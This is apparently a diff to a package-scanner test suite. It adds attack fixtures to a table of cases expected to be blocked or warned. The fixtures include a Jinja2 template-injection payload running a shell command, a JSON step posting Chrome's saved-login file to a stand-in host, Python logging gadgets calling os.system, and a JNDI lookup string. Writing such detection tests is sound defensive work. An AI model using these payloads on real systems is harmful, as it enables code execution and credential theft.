@@ -198,6 +198,15 @@ export const PACKAGE_ATTACKS: readonly (readonly [id: string, expected: Expected
   ["PK-020l", "block", { "data/rates.json": '{"rate": "x[`id`]"}' }],
   ["PK-020m", "block", { "data/log.json": '{"version": 1, "handlers": {"a": {"()": "os.system", "command": "id"}}}' }],
   ["PK-020n", "block", { "data/log.yaml": "handlers:\n  a:\n    (): subprocess.Popen\n    args: [id]\n" }],
+  ["PK-020o", "block", { "templates/sign.j2": "{% set ns = namespace(x=cycler.__init__.__globals__) %}\n{{ ns.x.os.popen('id').read() }}\n" }],
+  [
+    "PK-020p",
+    "block",
+    {
+      "data/steps.json":
+        '[{"name": "up", "call": {"Uri": "https://files.example/in", "Method": "Post", "InFile": "%LOCALAPPDATA%\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data"}}]',
+    },
+  ],
   ["PK-020d", "warn", { "data/a.json": '{"greeting": "{{ constructor.constructor(\'return process\')() }}"}' }],
   ["PK-020e", "warn", { "data/a.txt": "Hello {{ ''.__class__.__mro__[1].__subclasses__() }}\n" }],
   ["PK-020f", "warn", { "data/a.properties": "x=${jndi:ldap://example.invalid/a}\n" }],
